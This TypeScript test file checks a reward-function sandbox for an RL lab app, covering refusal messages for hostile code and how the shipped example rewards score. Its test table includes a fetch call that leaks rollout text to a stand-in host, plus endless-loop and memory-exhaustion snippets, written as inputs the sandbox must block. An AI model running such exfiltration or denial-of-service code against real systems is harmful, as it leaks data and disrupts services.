// A written reward in the sandbox (src/rewards/sandbox.ts, user-reward.ts):
// hostile code is refused with its message and the line it fails on, and the
// shipped examples give what they say, the RLVR and StructReward copies the
// built-in variants' rewards bit for bit over recorded rollout texts.
import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { loadSandbox, runSandboxed, type SandboxEngine } from "../../src/rewards/sandbox";
import { scoreUserReward, userRewardInput } from "../../src/rewards/user-reward";
import { scoreRLVR } from "../../src/rewards/grr";
import { scoreStructReward } from "../../src/rewards/structreward";
import { createTaskGenerator, type LabTaskPrompt } from "../../src/tasks/index";
import { loadMnistSubsetNode } from "../../src/tasks/mnist-data-node";

const root = resolve(import.meta.dirname, "../..");
const example = (name: string) =>
  readFileSync(resolve(root, `examples/rewards/${name}.js`), "utf8");
let engine: SandboxEngine;
beforeAll(async () => {
  engine = await loadSandbox();
});

const mnist = loadMnistSubsetNode();
const openPrompts = createTaskGenerator(
  { family: "digits", multipleChoice: false },
  { mnist },
).evalSet({ size: 12 });
const mcPrompts = createTaskGenerator(
  { family: "digits", multipleChoice: true },
  { mnist },
).evalSet({ size: 12 });
const shapePrompts = createTaskGenerator({ family: "shapes", numSteps: 3 }).evalSet({ size: 12 });
/** Rollout texts of the shipped recordings (open-ended digits: drift; multiple choice: acre-paper). */
const recordedTexts = (name: string): string[] => {
  const rec = JSON.parse(readFileSync(resolve(root, `public/recordings/${name}.json`), "utf8"));
  return rec.samples.flatMap((g: { rollouts: { text: string }[] }) =>
    g.rollouts.map((r) => r.text),
  );
};
const openTexts = recordedTexts("drift");
const mcTexts = recordedTexts("acre-paper");
/**
 * Groups of 8: the prompt's own SFT target, the same with its final box
 * replaced by a wrong value (right steps, wrong answer), and six recorded
 * rollouts, one of them given the prompt's answer (wrong steps, right answer).
 */
function groups(prompts: LabTaskPrompt[], texts: string[]): [LabTaskPrompt, string[]][] {
  return prompts.map((p, g) => {
    const gold = p.answer.letter ?? p.answer.content;
    const picked = Array.from({ length: 6 }, (_, k) => texts[(g * 6 + k * 7) % texts.length]);
    picked[0] = picked[0].replace(/\\boxed\{[^}]*\}\s*$/, `\\boxed{${gold}}`);
    const wrong = p.sftTarget.replace(/\\boxed\{[^}]*\}\s*$/, "\\boxed{Z}");
    return [p, [p.sftTarget, wrong, ...picked]];
  });
}
const allGroups = [
  ...groups(openPrompts, openTexts),
  ...groups(mcPrompts, mcTexts),
  ...groups(shapePrompts, [...openTexts, ...mcTexts]),
];

describe("hostile code in the reward sandbox", () => {
  const [prompt, texts] = allGroups[0];
  const refused = (code: string) => {
    try {
      scoreUserReward(engine, code, prompt, texts);
    } catch (e) {
      return (e as Error).message;
    }
    return "not refused";
  };
  const table: [string, string, RegExp][] = [
    [
      "an endless loop",
      "function reward(g) {\n  let i = 0;\n  while (true) i++;\n}",
      /^your reward: the reward ran past its time budget of 1000 ms for one group and was stopped in reward \(the last place the engine recorded: line 1\); an endless loop\?$/,
    ],
    [
      "an endless loop in a helper function",
      "function spin(n) {\n  for (;;) n = Math.abs(n + 1);\n}\nfunction reward(g) {\n  spin(0);\n}",
      /was stopped in spin \(the last place the engine recorded: line 1\); an endless loop\?$/,
    ],
    [
      "a throw",
      "function reward(g) {\n  const x = 1;\n  throw new Error('no reward today');\n}",
      /^your reward: Error at line 3: no reward today$/,
    ],
    [
      "a NaN",
      "function reward(g) {\n  return g.rollouts.map((r, i) => (i === 2 ? 0 / 0 : 1));\n}",
      /^your reward: the reward\[2\] \(rollout 2\) is NaN, not a finite number$/,
    ],
    [
      "a wrong length",
      "function reward(g) {\n  return [1, 0, 1];\n}",
      /^your reward: the reward has 3 values for the group's 8 rollouts$/,
    ],
    [
      "a 10 MB string",
      "function reward(g) {\n  const s = 'x'.repeat(10 * 1024 * 1024);\n  return g.rollouts.map(() => s.length);\n}",
      /ran out of its 8 MiB of memory at line 2/,
    ],
    [
      "deep recursion",
      "function down(n) {\n  return down(n + 1) + 1;\n}\nfunction reward(g) {\n  return [down(0)];\n}",
      /overflowed its stack of 256 KiB at line 2/,
    ],
    [
      "fetch",
      "function reward(g) {\n  fetch('https://example.com/?leak=' + g.rollouts[0].text);\n  return [];\n}",
      /ReferenceError at line 2: 'fetch' is not defined \(the reward sandbox has no network, storage, page or timers/,
    ],
    [
      "indexedDB",
      "function reward(g) {\n  indexedDB.open('reward-lab');\n}",
      /ReferenceError at line 2: 'indexedDB' is not defined/,
    ],
    [
      "postMessage to the page",
      "function reward(g) {\n  postMessage({ type: 'scored' });\n}",
      /ReferenceError at line 2: 'postMessage' is not defined/,
    ],
    [
      "a syntax error",
      "function reward(g) {\n  return [1,;\n}",
      /SyntaxError at line 2: unexpected token/,
    ],
    ["no reward function", "const weights = {};", /the code defines no function reward\(group\)/],
    [
      "a string value",
      "function reward(g) {\n  return g.rollouts.map(() => 'high');\n}",
      /the reward\[0\] \(rollout 0\) is the string "high", not a finite number/,
    ],
    [
      "a bad weight",
      "const weights = { a: 'x' };\nfunction reward(g) {\n  return { a: g.rollouts.map(() => 1) };\n}",
      /weights\.a is the string "x", not a finite number/,
    ],
  ];
  for (const [what, code, message] of table)
    it(`refuses ${what} with its message`, () => {
      expect(refused(code)).toMatch(message);
    });

  it("after every refusal the sandbox still scores: nothing carries from one call to the next", () => {
    for (const [, code] of table) refused(code);
    const score = scoreUserReward(
      engine,
      "globalThis.leftover = 5;\nfunction reward(g) { return g.rollouts.map(() => 1); }",
      prompt,
      texts,
    );
    expect(score.rollouts.map((r) => r.total)).toEqual([1, 1, 1, 1, 1, 1, 1, 1]);
    const next = runSandboxed(engine, "function reward(g) { return typeof leftover; }", {});
    expect(next).toEqual({ ok: true, value: { result: "undefined", also: null } });
  });
});

describe("what a written reward returns", () => {
  it("an object of components is summed with the code's weights and logged one by one", () => {
    const [prompt, texts] = allGroups[0];
    const code =
      "const weights = { answer: 2 };\nfunction reward(g) {\n  return { answer: g.rollouts.map((r) => r.correct), bonus: g.rollouts.map((_, i) => i / 4) };\n}";
    const s = scoreUserReward(engine, code, prompt, texts);
    // rollout 0 is the SFT target (right), rollout 1 its copy with a wrong answer.
    expect(s.rollouts[0]).toMatchObject({
      total: 2,
      components: { answer: 1, bonus: 0 },
      verifierPassed: true,
    });
    expect(s.rollouts[1]).toMatchObject({
      total: 0.25,
      components: { answer: 0, bonus: 0.25 },
      verifierPassed: false,
    });
  });

  it("the inputs carry the parsed trace and the lab's checks", () => {
    const p = mcPrompts[0];
    const input = userRewardInput(p, [p.sftTarget]);
    const r = input.rollouts[0];
    expect(r.correct).toBe(1);
    expect(r.strictFormat).toBe(1);
    expect(r.consistent).toBe(1);
    expect(r.letter).toBe(p.answer.letter);
    expect(r.matchedSteps).toBe(p.referenceSteps.length);
    expect(r.steps.map((s) => s.boxed)).toEqual(p.referenceSteps.map((s) => s.value));
    expect(input.prompt.answer).toEqual(p.answer);
  });
});

describe("the shipped examples", () => {
  it("RLVR in the editor's terms gives the built-in RLVR's rewards bit for bit", () => {
    let right = 0;
    for (const [prompt, texts] of allGroups) {
      const mine = scoreUserReward(engine, example("rlvr"), prompt, texts).rollouts.map(
        (r) => r.total,
      );
      const built = scoreRLVR(prompt, texts).rollouts.map((r) => r.total);
      expect(mine.map((x, i) => Object.is(x, built[i]))).toEqual(built.map(() => true));
      right += built.filter((x) => x === 1).length;
    }
    // Both kinds of rollout occur: each group has its SFT target (right) and its wrong copy.
    expect(right).toBeGreaterThanOrEqual(allGroups.length);
    expect(right).toBeLessThan(allGroups.length * 8);
  });

  it("StructReward in the editor's terms gives the built-in StructReward's rewards bit for bit", () => {
    const seen = new Set<number>();
    for (const [prompt, texts] of allGroups) {
      const mine = scoreUserReward(engine, example("structreward"), prompt, texts).rollouts.map(
        (r) => r.total,
      );
      const built = scoreStructReward(prompt, texts).rollouts.map((r) => r.total);
      expect(mine.map((x, i) => Object.is(x, built[i]))).toEqual(built.map(() => true));
      for (const x of built) seen.add(x);
    }
    // The SFT target's full reward (0.1 + 0.25 + 0.75·1.15) and partial ones occur.
    expect(seen.has(0.1 + 0.25 + 0.75 * 1 * 1 * (1 + 0.15))).toBe(true);
    expect(seen.size).toBeGreaterThan(3);
  });

  it("answer only, format only, the length and keyword bonuses pay what they say", () => {
    const [prompt, texts] = allGroups[0];
    // right; its wrong-answer copy; right with " check" after it; right with its think block left open.
    const t = [texts[0], texts[1], `${texts[0]} check`, texts[0].replace("</think>", "")];
    const totals = (name: string) =>
      scoreUserReward(engine, example(name), prompt, t).rollouts.map((r) => r.total);
    expect(totals("answer-only")).toEqual([1, 0, 1, 0]);
    expect(totals("format-only")).toEqual([1, 1, 1, 0]);
    expect(totals("length-bonus")).toEqual([
      1 + t[0].length / 100,
      t[1].length / 100,
      1 + t[2].length / 100,
      t[3].length / 100,
    ]);
    expect(totals("keyword-bonus")).toEqual([1, 0, 1.5, 0]);
  });
});
